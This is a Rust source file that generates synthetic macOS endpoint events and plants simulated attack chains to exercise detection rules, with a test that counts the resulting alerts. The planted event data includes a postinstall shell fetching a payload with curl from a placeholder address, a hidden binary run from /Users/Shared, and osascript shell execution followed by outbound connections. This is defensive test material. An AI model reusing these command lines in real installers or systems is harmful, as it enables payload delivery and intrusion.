//! A seeded generator of realistic macOS endpoint traffic: process trees
//! that exec, fork and exit, file writes under real macOS paths, outbound
//! connections. Names and paths repeat as they do on a real Mac, which is
//! what the spool's compression and the correlator's indexes meet in
//! production. Optionally plants the attack chains of the shipped rules (and
//! near misses) at a fixed rate, so benchmarks and demos have alerts to find.
//!
//! Owns: the generator and its paced feed ([`feed`]). Must not touch: the
//! pipeline beyond pushing events; it is a load, not a source of truth.

pub mod feed;

use std::net::{IpAddr, Ipv4Addr};
use std::sync::{Arc, OnceLock};

use dsl::event::{
    Category, CodeSignature, Endpoint, EventInfo, EventType, File, Hash, Host, Network, Os,
    Process, Text, User,
};
use dsl::Event;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// (name, executable, signing id, team id, typical args)
const PROGRAMS: &[(&str, &str, &str, &str, &[&str])] = &[
    ("xpcproxy", "/usr/libexec/xpcproxy", "com.apple.xpc.proxy", "", &["com.apple.WebKit.WebContent"]),
    ("mdworker_shared", "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared", "com.apple.mdworker_shared", "", &["-s", "mdworker", "-c", "MDSImporterWorker", "-m", "com.apple.mdworker.shared"]),
    ("git", "/usr/bin/git", "com.apple.git", "", &["status", "--porcelain"]),
    ("zsh", "/bin/zsh", "com.apple.zsh", "", &["-l"]),
    ("ls", "/bin/ls", "com.apple.ls", "", &["-la"]),
    ("Google Chrome Helper", "/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/Versions/120.0.6099.129/Helpers/Google Chrome Helper.app/Contents/MacOS/Google Chrome Helper", "com.google.Chrome.helper", "EQHXZ8M8AV", &["--type=utility", "--utility-sub-type=network.mojom.NetworkService"]),
    ("Slack Helper", "/Applications/Slack.app/Contents/Frameworks/Slack Helper.app/Contents/MacOS/Slack Helper", "com.tinyspeck.slackmacgap.helper", "BQR82RBBHL", &["--type=renderer"]),
    ("softwareupdated", "/System/Library/PrivateFrameworks/MobileSoftwareUpdate.framework/Support/softwareupdated", "com.apple.softwareupdated", "", &[]),
    ("node", "/opt/homebrew/bin/node", "node", "", &["/Users/alex/src/app/node_modules/.bin/jest", "--watch"]),
    ("python3", "/opt/homebrew/bin/python3", "python3", "", &["-m", "pip", "list"]),
    ("ssh", "/usr/bin/ssh", "com.apple.openssh", "", &["git@github.com"]),
    ("curl", "/usr/bin/curl", "com.apple.curl", "", &["-sS", "https://api.github.com/repos"]),
    ("codesign", "/usr/bin/codesign", "com.apple.codesign", "", &["-dv", "/Applications/Slack.app"]),
    ("launchctl", "/bin/launchctl", "com.apple.xpc.launchctl", "", &["print", "gui/501"]),
    ("Code Helper (Renderer)", "/Applications/Visual Studio Code.app/Contents/Frameworks/Code Helper (Renderer).app/Contents/MacOS/Code Helper (Renderer)", "com.microsoft.VSCode.helper.Renderer", "UBF8T346G9", &["--type=renderer"]),
];

/// Which programs each one starts, by name, as on a real Mac: a shell runs
/// developer tools, an editor's helper runs a terminal's shell, a browser's
/// helper starts more helpers. Programs not listed start nothing. An exec
/// looks at a few random live processes for one that would start its
/// program; if none would, launchd (pid 1, every app's and service's parent
/// on macOS) starts it, more often than on a real Mac for programs only a
/// shell starts. No browser starts a shell: on a
/// busy but healthy Mac the shipped rules stay quiet, so that alerts come
/// only from the planted chains.
const SPAWNS: &[(&str, &[&str])] = &[
    ("xpcproxy", &["mdworker_shared", "softwareupdated"]),
    (
        "zsh",
        &[
            "git",
            "ls",
            "node",
            "python3",
            "ssh",
            "curl",
            "codesign",
            "launchctl",
            "zsh",
        ],
    ),
    ("git", &["ssh", "git"]),
    ("node", &["node", "git"]),
    ("python3", &["python3", "git"]),
    ("Google Chrome Helper", &["Google Chrome Helper"]),
    ("Slack Helper", &["Slack Helper"]),
    ("Code Helper (Renderer)", &["zsh", "git", "node"]),
];

/// Live processes an exec looks at for one that would start its program
/// before launchd starts it.
const PARENT_PROBES: usize = 8;

/// Indices into `PROGRAMS` of the programs `parent` starts (see `SPAWNS`).
fn spawned_by(parent: &str) -> Vec<usize> {
    let names = SPAWNS
        .iter()
        .find(|(p, _)| *p == parent)
        .map_or(&[][..], |(_, children)| children);
    names
        .iter()
        .map(|child| {
            PROGRAMS
                .iter()
                .position(|p| p.0 == *child)
                .unwrap_or_else(|| panic!("SPAWNS names {child}, which is not in PROGRAMS"))
        })
        .collect()
}

const FILE_DIRS: &[&str] = &[
    "/Users/alex/Library/Caches/com.google.Chrome/Default/Cache/Cache_Data",
    "/Users/alex/Library/Application Support/Slack/IndexedDB",
    "/private/var/folders/zz/zyxvpxvq6csfxvn_n0000000000000/T",
    "/Users/alex/src/app/node_modules/.cache",
    "/Users/alex/Library/Containers/com.apple.mail/Data/Library/Mail Downloads",
    "/Library/Logs/DiagnosticReports",
    "/Users/alex/src/app/target/debug/deps",
];

const FILE_NAMES: &[&str] = &[
    "index",
    "data_0",
    "data_1",
    "f_000a1c",
    "LOG.old",
    "000003.log",
    "CURRENT",
    "state.json",
    "cache.sqlite-wal",
    "report.ips",
];

/// Which attack chains a planting round adds.
#[derive(
    Debug,
    Clone,
    Copy,
    PartialEq,
    Eq,
    Default,
    serde::Serialize,
    serde::Deserialize,
    clap::ValueEnum,
)]
#[serde(rename_all = "snake_case")]
pub enum Plant {
    /// The seed chain only: installer → postinstall `sh` → `curl` → a
    /// connection out (it raises the installer-network and AN0938 rules).
    #[default]
    Installer,
    /// The seed chain plus one chain for each other shipped rule, every
    /// chain followed by a near miss that must not alert.
    All,
}

impl Plant {
    /// Alerts the shipped rules raise for one planting round.
    pub fn alerts_per_round(self) -> u64 {
        match self {
            Plant::Installer => 2,
            Plant::All => 7,
        }
    }
}

/// The public address planted chains connect to (example.com's).
const PUBLIC_IP: [u8; 4] = [93, 184, 216, 34];

/// How much of each kind of traffic to make.
#[derive(Debug, Clone)]
pub struct SyntheticConfig {
    pub seed: u64,
    pub host_id: String,
    /// Plant attack chains (and near misses) every this many events; 0 = never.
    pub plant_every: u64,
    /// Which chains each planting round adds.
    pub plant: Plant,
    /// Start time (ns since epoch) and mean gap between events.
    pub start_ns: i64,
    pub mean_gap_ns: i64,
}

impl Default for SyntheticConfig {
    fn default() -> Self {
        SyntheticConfig {
            seed: 42,
            host_id: "F2A1C3D4-5B6E-4F70-8A9B-0C1D2E3F4A5B".into(),
            plant_every: 0,
            plant: Plant::Installer,
            start_ns: 1_717_148_832_000_000_000,
            mean_gap_ns: 500_000,
        }
    }
}

/// A program's strings that never change, made once and shared by every
/// event (as a live source shares a process's strings): allocating them
/// per event would make the generator, not the agent, what a footprint
/// benchmark measures. All static: cloning them touches no counter.
struct ProgramStrings {
    name: Text,
    executable: Text,
    signing_id: Text,
    team_id: Option<Text>,
    argv: Vec<Text>,
    command_line: Text,
    cdhash: Text,
    /// What it starts (indices into `PROGRAMS`); empty: nothing.
    spawns: Vec<usize>,
}

/// The strings of every program in `PROGRAMS`, made once per process and
/// kept for good.
fn program_strings() -> &'static [ProgramStrings] {
    static MADE: OnceLock<Vec<ProgramStrings>> = OnceLock::new();
    MADE.get_or_init(|| {
        PROGRAMS
            .iter()
            .enumerate()
            .map(|(p, &(name, exe, signing, team, args))| {
                let argv: Vec<&'static str> =
                    std::iter::once(exe).chain(args.iter().copied()).collect();
                ProgramStrings {
                    name: Text::from_static(name),
                    executable: Text::from_static(exe),
                    signing_id: Text::from_static(signing),
                    team_id: (!team.is_empty()).then(|| Text::from_static(team)),
                    command_line: Text::leak(argv.join(" ")),
                    argv: argv.into_iter().map(Text::from_static).collect(),
                    cdhash: Text::leak(format!("{:040x}", (p as u128 + 1) * 0x9e37_79b9_7f4a_7c15)),
                    spawns: spawned_by(name),
                }
            })
            .collect()
    })
}

/// The `File` of `FILE_DIRS[d]/FILE_NAMES[n]` at `d * FILE_NAMES.len() + n`,
/// made once per process and kept for good, like the program strings.
fn files() -> &'static [File] {
    static MADE: OnceLock<Vec<File>> = OnceLock::new();
    MADE.get_or_init(|| {
        FILE_DIRS
            .iter()
            .flat_map(|d| FILE_NAMES.iter().map(move |n| format!("{d}/{n}")))
            .map(|path| {
                let f = File::from_path(&path);
                let leak = |t: Option<Text>| t.map(|t| Text::leak(t.to_string()));
                File {
                    path: leak(f.path),
                    name: leak(f.name),
                    extension: leak(f.extension),
                    target_path: None,
                }
            })
            .collect()
    })
}

struct Live {
    pid: u32,
    entity_id: Text,
    program: usize,
}

pub struct Synthetic {
    cfg: SyntheticConfig,
    rng: StdRng,
    now: i64,
    next_pid: u32,
    live: Vec<Live>,
    programs: &'static [ProgramStrings],
    /// The host id's first 8 characters, which start every entity id.
    entity_prefix: String,
    /// pid 1: the parent of an exec no live process would start.
    launchd: Arc<Process>,
    /// Static but for the configured host id, shared by every event.
    host: Host,
    queue: std::collections::VecDeque<Event>,
    made: u64,
    rounds_planted: u64,
}

impl Synthetic {
    pub fn new(cfg: SyntheticConfig) -> Synthetic {
        let rng = StdRng::seed_from_u64(cfg.seed);
        let now = cfg.start_ns;
        let host = Host {
            id: Some(cfg.host_id.as_str().into()),
            name: Some(Text::from_static("alex-mbp")),
            os: Os {
                os_type: Some(Text::from_static("macos")),
                family: Some(Text::from_static("macos")),
                version: Some(Text::from_static("14.5")),
            },
        }
        .leaked();
        let entity_prefix: String = cfg.host_id.chars().take(8).collect();
        let launchd = Arc::new(Process {
            pid: Some(1),
            // Started a day before the traffic.
            entity_id: Some(entity_id(&entity_prefix, 1, now - 86_400_000_000_000)),
            name: Some(Text::from_static("launchd")),
            executable: Some(Text::from_static("/sbin/launchd")),
            args: vec![Text::from_static("/sbin/launchd")],
            command_line: Some(Text::from_static("/sbin/launchd")),
            code_signature: CodeSignature {
                signing_id: Some(Text::from_static("com.apple.xpc.launchd")),
                team_id: None,
                trusted: Some(true),
                platform_binary: Some(true),
            },
            ..Process::default()
        });
        let mut s = Synthetic {
            cfg,
            rng,
            now,
            next_pid: 400,
            live: Vec::new(),
            programs: program_strings(),
            entity_prefix,
            launchd,
            host,
            queue: Default::default(),
            made: 0,
            rounds_planted: 0,
        };
        for p in 0..PROGRAMS.len() {
            s.spawn_live(p);
        }
        s
    }

    /// Planting rounds so far; each raises [`Plant::alerts_per_round`] alerts.
    pub fn rounds_planted(&self) -> u64 {
        self.rounds_planted
    }

    fn spawn_live(&mut self, program: usize) -> usize {
        let pid = self.next_pid;
        self.next_pid = if self.next_pid > 99_000 {
            400
        } else {
            self.next_pid + 1
        };
        self.live.push(Live {
            pid,
            entity_id: entity_id(&self.entity_prefix, pid, self.now),
            program,
        });
        self.live.len() - 1
    }

    fn process_of(&self, idx: usize) -> Process {
        let l = &self.live[idx];
        let strings = &self.programs[l.program];
        Process {
            pid: Some(l.pid),
            entity_id: Some(l.entity_id.clone()),
            name: Some(strings.name.clone()),
            executable: Some(strings.executable.clone()),
            command_line: Some(strings.command_line.clone()),
            args: strings.argv.clone(),
            working_directory: Some(Text::from_static("/Users/alex")),
            code_signature: CodeSignature {
                signing_id: Some(strings.signing_id.clone()),
                team_id: strings.team_id.clone(),
                trusted: Some(true),
                platform_binary: Some(strings.team_id.is_none()),
            },
            hash: Hash {
                cdhash: Some(strings.cdhash.clone()),
                sha256: None,
            },
            exit_code: None,
            parent: None,
        }
    }

    fn base(
        &self,
        category: Category,
        types: Vec<EventType>,
        action: &'static str,
        process: Process,
    ) -> Event {
        Event {
            timestamp_ns: self.now,
            event: EventInfo {
                category,
                types,
                action: Some(Text::from_static(action)),
                id: None,
                outcome: None,
            },
            host: self.host.clone(),
            process,
            user: User {
                id: Some(Text::from_static("501")),
                name: Some(Text::from_static("alex")),
            },
            file: None,
            source: None,
            destination: None,
            network: None,
            extra: Default::default(),
        }
    }

    fn random_event(&mut self) -> Event {
        let roll = self.rng.gen_range(0..100);
        let idx = self.rng.gen_range(0..self.live.len());
        match roll {
            0..=19 => {
                // exec of a program (any, so the mix of programs stays
                // even) by a live process that would start it, else by launchd
                let program = self.rng.gen_range(0..PROGRAMS.len());
                let parent = (0..PARENT_PROBES)
                    .map(|_| self.rng.gen_range(0..self.live.len()))
                    .find(|&i| {
                        self.programs[self.live[i].program]
                            .spawns
                            .contains(&program)
                    })
                    .map_or_else(
                        || Arc::clone(&self.launchd),
                        |i| Arc::new(strip(self.process_of(i))),
                    );
                let child = self.spawn_live(program);
                let mut p = self.process_of(child);
                p.parent = Some(parent);
                let exec = self.base(Category::Process, vec![EventType::Start], "exec", p);
                if self.live.len() > 400 {
                    // Keep the live set bounded the way a real host does: a
                    // process exits (and says so), so trackers can forget it.
                    let victim = self.rng.gen_range(0..self.live.len() - 1);
                    let mut exit = self.base(
                        Category::Process,
                        vec![EventType::End],
                        "exit",
                        self.process_of(victim),
                    );
                    exit.process.exit_code = Some(0);
                    self.queue.push_back(exit);
                    self.live.swap_remove(victim);
                }
                exec
            }
            20..=24 => {
                let p = self.process_of(idx);
                let mut e = self.base(Category::Process, vec![EventType::End], "exit", p);
                e.process.exit_code = Some(0);
                e
            }
            25..=84 => {
                let dir = self.rng.gen_range(0..FILE_DIRS.len());
                let name = self.rng.gen_range(0..FILE_NAMES.len());
                let p = self.process_of(idx);
                let (t, action) = if self.rng.gen_bool(0.2) {
                    (EventType::Creation, "creation")
                } else {
                    (EventType::Change, "modification")
                };
                let mut e = self.base(Category::File, vec![t], action, p);
                e.file = Some(files()[dir * FILE_NAMES.len() + name].clone());
                e
            }
            _ => {
                let p = self.process_of(idx);
                let mut e = self.base(
                    Category::Network,
                    vec![EventType::Start, EventType::Connection],
                    "connection_attempted",
                    p,
                );
                let last = self.rng.gen_range(1..=20u8);
                e.destination = Some(Endpoint {
                    ip: Some(IpAddr::V4(Ipv4Addr::new(140, 82, 112, last))),
                    port: Some(443),
                });
                e.source = Some(Endpoint {
                    ip: Some(IpAddr::V4(Ipv4Addr::new(192, 168, 1, 20))),
                    port: Some(self.rng.gen_range(49152..65535)),
                });
                e.network = Some(Network {
                    transport: Some(Text::from_static("tcp")),
                    direction: Some(Text::from_static("egress")),
                });
                e
            }
        }
    }

    /// The seed chain: installer → sh (postinstall) → curl, curl connects out;
    /// plus a near miss (a shell from Terminal doing the same).
    fn plant_chain(&mut self) {
        self.rounds_planted += 1;
        let n = self.rounds_planted;
        let installer = planted(
            "installer",
            "/usr/sbin/installer",
            format!("inst-{n}"),
            60_000,
            &[
                "installer",
                "-pkg",
                "/Users/alex/Downloads/Update.pkg",
                "-target",
                "/",
            ],
        );
        let mut sh = planted(
            "sh",
            "/bin/sh",
            format!("sh-{n}"),
            60_001,
            &["/bin/sh", "/tmp/PKInstallSandbox/Scripts/postinstall"],
        );
        sh.parent = Some(Arc::new(installer));
        let mut curl = planted(
            "curl",
            "/usr/bin/curl",
            format!("curl-{n}"),
            60_002,
            &["curl", "-fsSL", "http://203.0.113.80/p"],
        );
        curl.parent = Some(Arc::new(strip(sh.clone())));
        self.exec(sh);
        self.now += 200_000_000;
        self.exec(curl.clone());
        self.now += 300_000_000;
        self.connect(curl, PUBLIC_IP, 80);
        // Near miss: the same shape under Terminal's zsh.
        let term = planted("zsh", "/bin/zsh", format!("term-{n}"), 61_000, &["-zsh"]);
        let mut sh2 = planted(
            "sh",
            "/bin/sh",
            format!("nsh-{n}"),
            61_001,
            &["sh", "-c", "curl example.com"],
        );
        sh2.parent = Some(Arc::new(term));
        self.exec(sh2);
        if self.cfg.plant == Plant::All {
            self.plant_rule_chains(n);
        }
    }

    /// A chain for each shipped rule the seed chain does not raise, each
    /// with a near miss: the legacy installer rule, AN0938 from a binary in
    /// a user-writable place, AN0994 (browser spawns a shell; a download run
    /// minutes later) and AN1316 (content app writes, spawns, connects).
    fn plant_rule_chains(&mut self, n: u64) {
        // Sub-second gaps (each rule's maxspan is 15 s or more): a round
        // then spans about as much event time as the ordinary traffic
        // between rounds, and does not stretch the stream's timeline.
        const MS: i64 = 1_000_000;

        // Legacy installer rule: the installer's own child connects to a
        // public address; the near miss connects to a private one.
        let installer = planted(
            "installer",
            "/usr/sbin/installer",
            format!("inst2-{n}"),
            60_010,
            &[
                "installer",
                "-pkg",
                "/Users/alex/Downloads/Tool.pkg",
                "-target",
                "/",
            ],
        );
        for (tag, pid, ip) in [
            ("upd", 60_011, PUBLIC_IP),
            ("upd-nm", 60_012, [10, 0, 0, 5]),
        ] {
            let exe = "/Library/Application Support/Tool/updater";
            let mut updater = planted(
                "updater",
                exe,
                format!("{tag}-{n}"),
                pid,
                &[exe, "--install"],
            );
            updater.parent = Some(Arc::new(installer.clone()));
            self.exec(updater.clone());
            self.now += 300 * MS;
            self.connect(updater, ip, 443);
        }

        // AN0938: a package script runs a binary hidden in /Users/Shared;
        // the near miss runs `defaults`, an ordinary postinstall step.
        let pss_exe = "/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/Resources/package_script_service";
        let pss = planted(
            "package_script_service",
            pss_exe,
            format!("pss-{n}"),
            60_020,
            &[pss_exe],
        );
        let children: [(&str, &str, &[&str]); 2] = [
            (
                "agent",
                "/Users/Shared/.cache/agent",
                &["/Users/Shared/.cache/agent", "--daemon"],
            ),
            (
                "defaults",
                "/usr/bin/defaults",
                &[
                    "defaults",
                    "write",
                    "com.vendor.tool",
                    "Installed",
                    "-bool",
                    "true",
                ],
            ),
        ];
        for (i, (name, exe, args)) in children.into_iter().enumerate() {
            let pid = 60_021 + 2 * i as u32;
            let mut sh = planted(
                "sh",
                "/bin/sh",
                format!("pss-sh{i}-{n}"),
                pid,
                &["/bin/sh", "/tmp/PKInstallSandbox.1/Scripts/postinstall"],
            );
            sh.parent = Some(Arc::new(pss.clone()));
            let mut child = planted(name, exe, format!("pss-c{i}-{n}"), pid + 1, args);
            child.parent = Some(Arc::new(strip(sh.clone())));
            self.exec(sh);
            self.now += 200 * MS;
            self.exec(child);
        }

        // AN0994: Safari starts a shell; the near miss starts `open`.
        let safari_exe = "/Applications/Safari.app/Contents/MacOS/Safari";
        let safari = planted(
            "Safari",
            safari_exe,
            format!("saf-{n}"),
            60_030,
            &[safari_exe],
        );
        for (i, (name, exe, args)) in [
            ("sh", "/bin/sh", &["sh", "-c", "echo update"][..]),
            ("open", "/usr/bin/open", &["open", "-a", "Preview"][..]),
        ]
        .into_iter()
        .enumerate()
        {
            let mut child = planted(name, exe, format!("saf-c{i}-{n}"), 60_031 + i as u32, args);
            child.parent = Some(Arc::new(safari.clone()));
            self.exec(child);
            self.now += 100 * MS;
        }

        // AN0994: Safari saves an app into Downloads and Finder runs it
        // moments later; the near miss does the same from Documents.
        let downloader = planted(
            "Safari",
            safari_exe,
            format!("saf-dl-{n}"),
            60_035,
            &[safari_exe],
        );
        let finder_exe = "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder";
        let finder = planted(
            "Finder",
            finder_exe,
            format!("finder-{n}"),
            60_036,
            &[finder_exe],
        );
        for (i, dir) in ["/Users/alex/Downloads", "/Users/alex/Documents"]
            .into_iter()
            .enumerate()
        {
            let path = format!("{dir}/Invoice-{n}.app/Contents/MacOS/Invoice");
            self.write_file(downloader.clone(), &path);
            self.now += 800 * MS;
            let mut app = planted(
                "Invoice",
                &path,
                format!("inv{i}-{n}"),
                60_037 + i as u32,
                &[path.as_str()],
            );
            app.parent = Some(Arc::new(finder.clone()));
            self.exec(app);
        }

        // AN1316: Preview writes into Downloads, starts osascript, which
        // connects out; the near miss only reaches the loopback address.
        let preview_exe = "/System/Applications/Preview.app/Contents/MacOS/Preview";
        for (i, ip) in [PUBLIC_IP, [127, 0, 0, 1]].into_iter().enumerate() {
            let pid = 60_040 + 2 * i as u32;
            let preview = planted(
                "Preview",
                preview_exe,
                format!("prev{i}-{n}"),
                pid,
                &[preview_exe],
            );
            self.write_file(
                preview.clone(),
                &format!("/Users/alex/Downloads/Statement-{n}-{i}.pdf"),
            );
            self.now += 500 * MS;
            let mut osa = planted(
                "osascript",
                "/usr/bin/osascript",
                format!("osa{i}-{n}"),
                pid + 1,
                &["osascript", "-e", "do shell script \"id\""],
            );
            osa.parent = Some(Arc::new(preview));
            self.exec(osa.clone());
            self.now += 200 * MS;
            self.connect(osa, ip, 443);
        }
    }

    fn exec(&mut self, process: Process) {
        let e = self.base(Category::Process, vec![EventType::Start], "exec", process);
        self.queue.push_back(e);
    }

    fn write_file(&mut self, process: Process, path: &str) {
        let mut e = self.base(
            Category::File,
            vec![EventType::Creation],
            "creation",
            process,
        );
        e.file = Some(File::from_path(path));
        self.queue.push_back(e);
    }

    fn connect(&mut self, process: Process, ip: [u8; 4], port: u16) {
        let mut e = self.base(
            Category::Network,
            vec![EventType::Start, EventType::Connection],
            "connection_attempted",
            process,
        );
        e.destination = Some(Endpoint {
            ip: Some(IpAddr::V4(Ipv4Addr::from(ip))),
            port: Some(port),
        });
        self.queue.push_back(e);
    }
}

/// A process of a planted chain: argv as given, no parent.
fn planted(name: &str, exe: &str, entity_id: String, pid: u32, args: &[&str]) -> Process {
    Process {
        pid: Some(pid),
        entity_id: Some(entity_id.into()),
        name: Some(name.into()),
        executable: Some(exe.into()),
        args: args.iter().map(|&a| Text::from(a)).collect(),
        command_line: Some(args.join(" ").into()),
        ..Process::default()
    }
}

/// The entity id of the process `pid` started at `start_ns`.
fn entity_id(prefix: &str, pid: u32, start_ns: i64) -> Text {
    format!("{prefix}-{pid}-{}", start_ns / 1_000_000).into()
}

fn strip(mut p: Process) -> Process {
    p.parent = None;
    p
}

impl Iterator for Synthetic {
    type Item = Event;

    fn next(&mut self) -> Option<Event> {
        if let Some(e) = self.queue.pop_front() {
            return Some(e);
        }
        self.made += 1;
        self.now += self.rng.gen_range(0..=2 * self.cfg.mean_gap_ns);
        if self.cfg.plant_every > 0 && self.made.is_multiple_of(self.cfg.plant_every) {
            self.plant_chain();
            return self.queue.pop_front();
        }
        Some(self.random_event())
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;
    use std::sync::Arc;

    use dsl::correlate::Correlator;
    use dsl::correlate::CorrelatorConfig;
    use dsl::rules::load_rules;
    use dsl::shipped::shipped_rule_files;

    use super::*;

    /// Alerts per shipped rule over `rounds` planting rounds (and a tail of
    /// ordinary traffic after the last one).
    fn alerts_by_rule(plant: Plant, rounds: u64) -> BTreeMap<String, u64> {
        let mut gen = Synthetic::new(SyntheticConfig {
            plant_every: 4_000,
            plant,
            ..Default::default()
        });
        let rules = Arc::new(load_rules(&shipped_rule_files()).rules);
        let mut correlator = Correlator::new(rules, CorrelatorConfig::default());
        let mut alerts = Vec::new();
        while gen.rounds_planted() < rounds || !gen.queue.is_empty() {
            let e = gen.next().expect("the generator never ends");
            correlator.process(&e, &mut alerts);
        }
        for e in gen.by_ref().take(3_000) {
            correlator.process(&e, &mut alerts);
        }
        assert_eq!(gen.rounds_planted(), rounds, "the tail planted nothing");
        let mut by_rule = BTreeMap::new();
        for a in &alerts {
            *by_rule.entry(a.rule.id.clone()).or_insert(0) += 1;
        }
        by_rule
    }

    #[test]
    fn planting_all_raises_every_shipped_rule_each_round_and_no_near_miss() {
        let rounds = 5;
        let seed_only = alerts_by_rule(Plant::Installer, rounds);
        let all = alerts_by_rule(Plant::All, rounds);
        let expect = |pairs: &[(&str, u64)]| -> BTreeMap<String, u64> {
            pairs.iter().map(|(id, n)| (id.to_string(), *n)).collect()
        };
        // Ordinary traffic raises nothing: every alert is a planted chain's.
        assert_eq!(
            seed_only,
            expect(&[
                ("macos-installer-child-network", rounds),
                ("an0938-installer-postinstall-unusual-child", rounds),
            ])
        );
        assert_eq!(
            all,
            expect(&[
                ("macos-installer-child-network", rounds),
                ("macos-installer-network-legacy", rounds),
                ("an0938-installer-postinstall-unusual-child", 2 * rounds),
                ("an0994-browser-spawns-shell", rounds),
                ("an0994-download-executed", rounds),
                ("an1316-content-app-write-spawn-egress", rounds),
            ])
        );
        assert_eq!(
            all.values().sum::<u64>(),
            Plant::All.alerts_per_round() * rounds
        );
        assert_eq!(
            seed_only.values().sum::<u64>(),
            Plant::Installer.alerts_per_round() * rounds
        );
    }
}
